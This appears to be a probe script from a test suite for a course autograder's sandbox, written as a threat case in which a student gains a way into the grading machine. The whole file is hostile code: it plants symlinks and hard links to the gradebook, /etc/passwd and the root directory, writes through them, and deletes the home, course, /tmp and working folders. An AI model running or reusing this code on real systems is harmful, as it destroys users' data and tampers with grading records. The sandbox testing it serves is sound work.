"""Symbolic and hard links, and folders that were moved or deleted, stand where files are looked for.

Would gain: the student, a way to the machine that grades.
"""

import os, shutil
for at, target in enumerate((COURSE, HOME, f"{COURSE}/gradebook.db", "/etc/passwd", "/proc/self/fd", "/")):
    for link in (os.symlink, os.link):
        try:
            link(target, f"/tmp/{MARK}-{at}-{link.__name__}")
        except OSError:
            pass
    try:
        open(f"/tmp/{MARK}-{at}-symlink/{MARK}", "w").write(MARK)
    except OSError:
        pass
for folder in (COURSE, HOME, SITE, "/tmp", os.getcwd()):
    shutil.rmtree(folder, ignore_errors=True)
os.makedirs("/tmp/gone", exist_ok=True)
os.chdir("/tmp/gone")
os.rmdir("/tmp/gone")
